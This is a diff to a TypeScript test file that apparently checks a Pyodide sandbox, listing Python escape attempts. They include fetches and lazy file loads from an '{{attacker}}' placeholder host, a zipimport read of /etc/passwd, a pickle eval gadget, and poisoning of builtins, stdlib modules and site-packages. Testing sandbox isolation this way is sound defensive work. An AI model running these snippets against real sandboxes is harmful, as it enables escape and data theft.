@@ -32,8 +32,6 @@ const codes: Record<string, string> = {
   'pyodide-idbfs': `import pyodide_js\npyodide_js.FS.mkdir('/left')\npyodide_js.FS.mount(pyodide_js.FS.filesystems.IDBFS, {}, '/left')\npyodide_js.FS.syncfs(True, print)`,
   'pyodide-nodefs': `import pyodide_js\npyodide_js.FS.mkdir('/left2')\npyodide_js.FS.mount(pyodide_js.FS.filesystems.NODEFS, {'root': '/'}, '/left2')`,
   'pyodide-native-fs': `import pyodide_js\nawait pyodide_js.mountNativeFS('/left3', None)`,
-  'pyodide-lazy-file': `import pyodide_js\npyodide_js.FS.createLazyFile('/', 'left', '{{attacker}}', True, True)\nprint(open('/left').read())`,
-  'pyodide-preloaded-file': `import pyodide_js\npyodide_js.FS.createPreloadedFile('/', 'left4', '{{attacker}}', True, True)`,
   'pyodide-load-dynlib': `import pyodide_js\nawait pyodide_js._api.loadDynlib('{{attacker}}')`,
   'pyfetch': `from pyodide.http import pyfetch\nprint(await (await pyfetch('{{attacker}}')).string())`,
   'pyfetch-site': `from pyodide.http import pyfetch\nprint(await (await pyfetch('{{site}}/?{{id}}')).string())`,
@@ -72,9 +70,7 @@ const codes: Record<string, string> = {
   'gc-objects': `import gc\nprint(any('canary' in repr(one)[:200] for one in gc.get_objects()[:20000] if isinstance(one, str)))`,
   'gc-port': `import gc, pyodide.ffi\nprint([one for one in gc.get_objects() if isinstance(one, pyodide.ffi.JsProxy) and 'MessagePort' in str(one)])`,
   frames: `import sys\nframe = sys._getframe()\nnames = []\nwhile frame:\n    names += list(frame.f_globals)\n    frame = frame.f_back\nprint(sorted({name for name in names if 'port' in name.lower() or 'stage' in name.lower()}))`,
-  builtins: `import builtins\nbuiltins.print = lambda *values: None\nbuiltins.__import__ = None`,
   pickle: `import pickle\nclass One:\n    def __reduce__(self):\n        return (eval, ("__import__('js').fetch",))\nprint(pickle.loads(pickle.dumps(One())))`,
-  'code-object': `exec((lambda: 0).__code__.replace(co_code=bytes([0] * 8)))` ,
   importlib: `import importlib.util\nspec = importlib.util.spec_from_loader('left', loader=None, origin='{{attacker}}')\nprint(importlib.util.module_from_spec(spec))`,
   zipimport: `import zipimport\nprint(zipimport.zipimporter('/lib/python314.zip').get_data('/etc/passwd'))`,
   'meta-path': `import sys\nclass One:\n    def find_spec(self, name, *rest):\n        print('asked', name)\nsys.meta_path.insert(0, One())\nimport colorsys`,
@@ -91,6 +87,10 @@ const scripts: Record<string, string> = {
 
 /** Alone: each breaks its interpreter, or must be judged by how it ends. */
 const alone: Record<string, [code: string, more?: Partial<FenceAttempt>]> = {
+  'pyodide-lazy-file': [`import pyodide_js\npyodide_js.FS.createLazyFile('/', 'left', '{{attacker}}', True, True)\nprint(open('/left').read())`, { timeoutMs: 2_000 }],
+  'pyodide-preloaded-file': [`import pyodide_js\npyodide_js.FS.createPreloadedFile('/', 'left4', '{{attacker}}', True, True)`, { timeoutMs: 2_000 }],
+  'code-object': [`exec((lambda: 0).__code__.replace(co_code=bytes([0] * 8)))`, { timeoutMs: 2_000 }],
+  'builtins': [`import builtins\nbuiltins.print = lambda *values: None\nbuiltins.__import__ = None`, { timeoutMs: 2_000 }],
   'stdlib-poison': [`import os, sys, json, random, collections\nfor module in (os, json, random, collections):\n    module.left = 1\nsys.modules['json'] = os\nopen('/lib/python314.zip', 'wb').write(b'left')`],
   'site-packages': [`import os\nos.makedirs('/lib/python3.14/site-packages', exist_ok=True)\nopen('/lib/python3.14/site-packages/sitecustomize.py', 'w').write('print("left")')\nopen('/lib/python3.14/site-packages/json.py', 'w').write('left = 1')`],
   'files-left': [`import os\nfor folder in ('/tmp', '/home', '/home/pyodide', '/'):\n    open(folder + '/left', 'w').write('left')\nos.chdir('/tmp')`],
